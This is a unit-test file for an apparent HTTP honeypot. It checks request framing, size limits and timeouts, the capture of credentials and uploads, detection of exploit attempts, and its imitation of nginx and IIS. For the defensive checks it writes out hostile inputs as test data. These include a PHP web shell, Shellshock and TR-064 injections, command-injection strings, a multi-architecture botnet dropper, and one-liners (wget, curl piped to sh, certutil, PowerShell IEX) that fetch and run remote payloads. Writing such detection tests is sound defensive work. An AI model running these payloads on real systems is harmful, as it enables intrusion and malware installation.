"""The HTTP machine fed bytes: framing, keep-alive, limits, capture, exploits, personas."""

from __future__ import annotations

import re

import pytest

from muscipula.capture.urls import find_offers
from muscipula.machine import Wake
from muscipula.protocols.http.iis import iis_etag
from tests.unit.http_helpers import Conn, split

GET = b"GET / HTTP/1.1\r\nHost: h\r\n\r\n"


def statuses(data: bytes) -> list[str]:
    return re.findall(r"HTTP/1\.1 (\d{3}) [^\r\n]*\r\n", data.decode("latin-1"))


# ----------------------------------------------------------------- framing


def test_pipelined_requests_answered_in_order_across_any_split():
    wire = (GET + b"GET /nope HTTP/1.1\r\nHost: h\r\n\r\n"
            + b"POST /x HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
            + b"3\r\nabc\r\n0\r\n\r\n" + b"HEAD / HTTP/1.1\r\nHost: h\r\n\r\n")
    whole = Conn().send(wire)
    assert statuses(whole) == ["200", "404", "404", "200"]
    for step in (1, 3, 7):
        c = Conn()
        got = b"".join(c.send(wire[i:i + step]) for i in range(0, len(wire), step))
        assert statuses(got) == ["200", "404", "404", "200"]
        assert c.captures() == {"http-3": b"abc"}


def test_chunked_body_then_pipelined_request_is_not_swallowed():
    c = Conn()
    body = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in (b"hello ", b"\nworld\n", b"!"))
    got = c.send(b"PUT /up.bin HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
                 + body + b"0\r\nX-Trailer: 1\r\n\r\n" + GET)
    assert statuses(got) == ["404", "200"]
    assert c.captures()["http-1"] == b"hello \nworld\n!"
    assert c.capture_urls()["http-1"] == "http://h/up.bin"


def test_keep_alive_and_close_per_version():
    c = Conn()
    assert b"Connection: keep-alive" in c.send(GET) and not c.closed
    c.send(b"GET / HTTP/1.0\r\n\r\n")
    assert c.closed
    iis = Conn("windows-2008r2")
    out = iis.send(b"GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")
    assert b"Connection: close\r\n" in out and iis.closed


def test_expect_continue_gets_100_then_the_answer():
    c = Conn()
    out = c.send(b"POST /a HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\n"
                 b"Expect: 100-continue\r\n\r\n")
    assert out == b"HTTP/1.1 100 Continue\r\n\r\n"
    assert statuses(c.send(b"abc")) == ["404"]


def test_connect_and_absolute_uri_are_never_forwarded():
    c = Conn()
    out = c.send(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
    assert statuses(out) == ["400"] and c.closed
    c = Conn()
    out = c.send(b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    assert b"Welcome to nginx!" in out  # the local site, as nginx serves it
    assert not [a for a in c.actions if type(a).__name__.startswith("Child")]
    iis = Conn("windows-2008r2")
    assert b"Microsoft-HTTPAPI/2.0" in iis.send(b"CONNECT a:443 HTTP/1.1\r\nHost: a\r\n\r\n")


@pytest.mark.parametrize("preset,server", [("debian-12", b"Server: nginx/1.22.1"),
                                           ("windows-2008r2", b"Server: Microsoft-HTTPAPI/2.0")])
def test_sip_request_line_gets_the_servers_400(preset, server):
    c = Conn(preset)
    out = c.send(b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n"
                 b"Call-ID: 50000\r\nCSeq: 42 OPTIONS\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 400 Bad Request\r\n") and server in out and c.closed
    assert b"Allow" not in out


def test_tls_hello_on_plain_port_is_refused_at_once():
    c = Conn()
    out = c.send(b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03")
    assert statuses(out) == ["400"] and c.closed


def test_traversal_never_leaves_the_site():
    for target in (b"/../../etc/passwd", b"/%2e%2e/%2e%2e/etc/passwd", b"/a/%00/b", b"/%zz"):
        c = Conn()
        assert statuses(c.send(b"GET " + target + b" HTTP/1.1\r\nHost: h\r\n\r\n")) == ["400"]
    iis = Conn("windows-2008r2")
    out = iis.send(b"GET /..\\..\\windows\\win.ini HTTP/1.1\r\nHost: h\r\n\r\n")
    assert statuses(out) == ["400"] and b"Invalid URL" in out


# ----------------------------------------------------------------- limits


def test_request_line_limit_gives_414():
    c = Conn(max_request_line=100)
    out = c.send(b"GET /" + b"a" * 200 + b" HTTP/1.1\r\nHost: h\r\n\r\n")
    assert statuses(out) == ["414"] and c.closed
    c = Conn(max_request_line=100)  # refused before the line is even complete
    assert statuses(c.send(b"GET /" + b"a" * 150)) == ["414"]
    iis = Conn("windows-2008r2", max_request_line=100)
    assert b"Request URL Too Long" in iis.send(b"GET /" + b"a" * 200 + b" HTTP/1.1\r\n\r\n")


def test_header_size_limits():
    c = Conn(max_header_line=64)
    out = c.send(b"GET / HTTP/1.1\r\nHost: h\r\nX-A: " + b"a" * 100 + b"\r\n\r\n")
    assert b"400 Request Header Or Cookie Too Large" in out and c.closed
    c = Conn(max_header_bytes=256)
    out = c.send(b"GET / HTTP/1.1\r\nHost: h\r\n" + b"X-B: bbbbbbbbbb\r\n" * 30)
    assert statuses(out) == ["400"] and c.closed
    assert c.m.buffered() == 0
    iis = Conn("windows-2008r2", max_header_bytes=256)
    out = iis.send(b"GET / HTTP/1.1\r\nHost: h\r\n" + b"X-B: bbbbbbbbbb\r\n" * 30 + b"\r\n")
    assert b"Request Too Long" in out


def test_header_count_limit():
    head = b"GET / HTTP/1.1\r\nHost: h\r\n" + b"".join(b"X-%d: v\r\n" % i for i in range(20))
    assert statuses(Conn(max_headers=50).send(head + b"\r\n")) == ["200"]
    c = Conn(max_headers=10)
    assert statuses(c.send(head + b"\r\n")) == ["400"] and c.closed


def test_body_size_limit_413_declared_and_streamed():
    c = Conn(max_body_size=100)
    out = c.send(b"POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: 101\r\n\r\n")
    assert statuses(out) == ["413"] and c.closed
    c = Conn(max_body_size=100)
    c.send(b"POST /x HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n")
    out = c.send(b"40\r\n" + b"a" * 64 + b"\r\n40\r\n" + b"b" * 64 + b"\r\n")
    assert statuses(out) == ["413"] and c.closed
    assert len(c.captures()["http-1"]) <= 100
    # IIS request filtering answers an over-long body with its 404 (404.13)
    iis = Conn("windows-2008r2", max_body_size=100)
    out = iis.send(b"POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: 101\r\n\r\n")
    assert statuses(out) == ["404"] and iis.closed


def test_requests_per_connection():
    c = Conn(max_requests_per_connection=3)
    out = c.send(GET * 3)
    assert out.count(b"Connection: keep-alive") == 2 and out.count(b"Connection: close") == 1
    assert c.closed


def test_slowloris_header_timeout():
    c = Conn(header_timeout=5)
    assert c.wakes() == [c.now + 5]
    c.send(b"GET / HTTP/1.1\r\nHo", dt=1)
    c.send(b"st: a\r\n", dt=2)
    assert not c.tick(1.0) or not c.closed  # woke early: re-armed, still open
    assert not c.closed
    c.tick(2.1)
    assert c.closed
    assert c.emitted("connection.limit") == [{"limit": "header_timeout", "value": 5.0}]
    assert c.send(b"\r\n") == b""


def test_slowloris_body_timeout_and_keepalive_timeout():
    c = Conn(body_timeout=3, keepalive_timeout=10)
    c.send(b"POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: 10\r\n\r\nab")
    assert any(isinstance(a, Wake) and a.at == c.now + 3 for a in c.actions)
    c.tick(3.1)
    assert c.closed and c.emitted("connection.limit")[0]["limit"] == "body_timeout"
    assert c.emitted("http.request")[0]["status"] == 0  # the unfinished request is logged
    k = Conn(keepalive_timeout=10, header_timeout=60)
    k.send(GET)
    k.tick(9)
    assert not k.closed
    k.tick(61)
    assert k.closed and not k.emitted("connection.limit")


def test_buffer_stays_bounded_under_a_flood():
    c = Conn(max_header_bytes=4096, max_header_line=4096)
    c.send(b"GET / HTTP/1.1\r\n")
    for _ in range(50):
        c.send(b"X-Flood: " + b"f" * 100 + b"\r\n")
        assert c.m.buffered() <= 4096 + 200
    assert c.closed


# ----------------------------------------------------------------- capture


def test_multipart_files_and_fields_are_captured():
    body = (b"--XyZ\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhi\r\n"
            b"--XyZ\r\nContent-Disposition: form-data; name=\"up\"; filename=\"shell.php\"\r\n"
            b"Content-Type: application/octet-stream\r\n\r\n<?php system($_GET[c]); ?>\r\n"
            b"--XyZ--\r\n")
    c = Conn()
    c.send(b"POST /upload.php HTTP/1.1\r\nHost: site\r\nContent-Type: multipart/form-data; "
           b"boundary=XyZ\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    caps = c.captures()
    assert caps["http-1"] == body
    assert caps["http-1-file0"] == b"<?php system($_GET[c]); ?>"
    assert c.capture_urls()["http-1-file0"] == "http://site/upload.php#shell.php"
    req = c.emitted("http.request")[0]
    assert req["method"] == "POST" and req["body_size"] == len(body) and req["status"] == 404


def test_lure_login_and_basic_auth_are_credentials():
    c = Conn("windows-2008r2")
    form = b"pma_username=root&pma_password=toor&server=1"
    out = c.send(b"POST /phpMyAdmin/index.php HTTP/1.1\r\nHost: h\r\nContent-Type: "
                 b"application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % len(form)
                 + form)
    assert statuses(out) == ["200"] and b"phpMyAdmin" in out  # IIS paths are case-blind
    c.send(b"GET /x HTTP/1.1\r\nHost: h\r\nAuthorization: Basic YWRtaW46c2VjcmV0\r\n\r\n")
    logins = c.emitted("login")
    assert [(x["username"], x["password"], x["method"]) for x in logins] == [
        ("root", "toor", "http-form"), ("admin", "secret", "http-basic")]


def test_env_lure_has_per_install_secrets():
    a = Conn().send(b"GET /.env HTTP/1.1\r\nHost: h\r\n\r\n")
    assert b"DB_PASSWORD=" in a and b"{token:" not in a and b"APP_KEY=base64:" in a


# ----------------------------------------------------------------- exploits


def test_shellshock_header_offers_its_download():
    c = Conn()
    c.send(b"GET /cgi-bin/status HTTP/1.1\r\nHost: h\r\nUser-Agent: () { :; }; /bin/bash -c "
           b"'cd /tmp; wget http://198.51.100.7/bot.sh -O b; sh b'\r\n\r\n")
    ex = c.emitted("http.exploit")
    assert ex[0]["kind"] == "shellshock" and ex[0]["where"] == "header:User-Agent"
    assert [o["url"] for o in c.emitted("download.offer")] == ["http://198.51.100.7/bot.sh"]


def test_tr064_ntp_server_injection():
    soap = (b'<?xml version="1.0"?><SOAP-ENV:Envelope><SOAP-ENV:Body>'
            b'<u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1">'
            b"<NewNTPServer1>`cd /tmp;tftp -g -r mips 198.51.100.9;chmod 777 mips;./mips`"
            b"</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>")
    c = Conn()
    c.send(b"POST /UD/act?1 HTTP/1.1\r\nHost: h:7547\r\nSOAPAction: urn:dslforum-org:service:"
           b"Time:1#SetNTPServers\r\nContent-Length: %d\r\n\r\n" % len(soap) + soap)
    assert c.emitted("http.exploit")[0]["kind"] == "tr064"
    assert [o["url"] for o in c.emitted("download.offer")] == ["tftp://198.51.100.9/mips"]


def test_command_injection_in_path_and_body():
    c = Conn()
    c.send(b"GET /shell?cd+/tmp;wget+http:/%2F198.51.100.3/a.sh;sh+a.sh HTTP/1.1\r\n"
           b"Host: h\r\n\r\n")
    c.send(b"POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: 62\r\n\r\n"
           b"cmd=certutil -urlcache -split -f http://198.51.100.4/p.exe p.e")
    urls = [o["url"] for o in c.emitted("download.offer")]
    assert urls == ["http://198.51.100.3/a.sh", "http://198.51.100.4/p.exe"]
    assert [e["where"] for e in c.emitted("http.exploit")] == ["path", "body"]


def test_find_offers_download_tools():
    assert find_offers("powershell IEX (New-Object Net.WebClient).DownloadString("
                       "'http://a.example/x.ps1')") == ["http://a.example/x.ps1"]
    assert find_offers("bitsadmin /transfer j /download http://b.example/y.exe c:\\y.exe") \
        == ["http://b.example/y.exe"]
    assert find_offers("curl -s c.example/z.sh | sh") == ["http://c.example/z.sh"]
    assert find_offers("ftpget -u a -p b 10.0.0.5 l r.bin") == ["ftp://a:b@10.0.0.5/r.bin"]
    assert find_offers("see http://example.com/ for details") == []


def test_find_offers_stops_at_max_offers():
    from muscipula.capture.urls import MAX_OFFERS

    archs = ["mips", "mpsl", "arm", "arm5", "arm6", "arm7", "x86", "m68k", "ppc", "sh4", "spc"]
    dropper = "cd /tmp; " + "; ".join(f"wget http://d.example/bins/{a}" for a in archs)
    assert find_offers(dropper) == [f"http://d.example/bins/{a}" for a in archs]
    flood = ";".join(f"wget http://f.example/{i}" for i in range(20 * MAX_OFFERS))
    assert find_offers(flood) == [f"http://f.example/{i}" for i in range(MAX_OFFERS)]


# ----------------------------------------------------------------- personas


def test_iis_pages_and_header_order():
    c = Conn("windows-2008r2")
    line, headers, body = split(c.send(GET))
    assert line == "HTTP/1.1 200 OK" and len(body) == 689 and b"<title>IIS7</title>" in body
    assert [h[0] for h in headers] == ["Content-Type", "Last-Modified", "Accept-Ranges", "ETag",
                                       "Server", "X-Powered-By", "Date", "Content-Length"]
    line, headers, body = split(c.send(b"GET /nope.asp HTTP/1.1\r\nHost: h\r\n\r\n"))
    assert line == "HTTP/1.1 404 Not Found" and len(body) == 1245
    assert [h[0] for h in headers] == ["Content-Type", "Server", "X-Powered-By", "Date",
                                       "Content-Length"]
    line, headers, _ = split(c.send(b"OPTIONS / HTTP/1.1\r\nHost: h\r\n\r\n"))
    assert dict(headers)["Allow"] == "OPTIONS, TRACE, GET, HEAD, POST"
    line, headers, body = split(c.send(b"PUT /iisstart.htm HTTP/1.1\r\nHost: h\r\n"
                                       b"Content-Length: 1\r\n\r\nx"))
    assert line == "HTTP/1.1 405 Method Not Allowed" and len(body) == 1293
    assert headers[0] == ("Allow", "GET, HEAD, OPTIONS, TRACE")
    line, _, _ = split(c.send(b"GET /aspnet_client/ HTTP/1.1\r\nHost: h\r\n\r\n"))
    assert line == "HTTP/1.1 403 Forbidden"  # directory listing off
    line, _, body = split(c.send(b"POST /x HTTP/1.1\r\nHost: h\r\n\r\n"))
    assert line == "HTTP/1.1 411 Length Required" and b"Microsoft-HTTPAPI" not in body
    no_host = Conn("windows-2008r2").send(b"GET / HTTP/1.1\r\n\r\n")
    assert len(split(no_host)[2]) == 334 and b"Invalid Hostname" in no_host


def test_iis_etag_is_filetime_bytes():
    assert iis_etag(1290224627) == '"' + "".join(
        f"{b:x}" for b in ((1290224627 + 11644473600) * 10**7).to_bytes(8, "little")) + ':0"'
    assert iis_etag(1290224627).endswith('cb1:0"')  # FILETIMEs of 2010 end in ...cb01


def test_https_redirect_names_the_https_port():
    c = Conn("windows-2008r2", transport="tls")
    c.m.svc.site.dirs.add("/docs/")
    _, headers, _ = split(c.send(b"GET /docs HTTP/1.1\r\nHost: www.example\r\n\r\n"))
    assert dict(headers)["Location"] == "https://www.example/docs/"


def test_kept_body_is_bounded_but_the_store_gets_all():
    c = Conn(max_body_keep=1000, max_body_log=10)
    c.send(b"PUT /big HTTP/1.1\r\nHost: h\r\nContent-Length: 5000\r\n\r\n" + b"z" * 2500)
    assert c.m.buffered() <= 1000
    c.send(b"z" * 2500)
    assert len(c.captures()["http-1"]) == 5000
    req = c.emitted("http.request")[0]
    assert req["body_size"] == 5000 and req["body"] == b"z" * 10
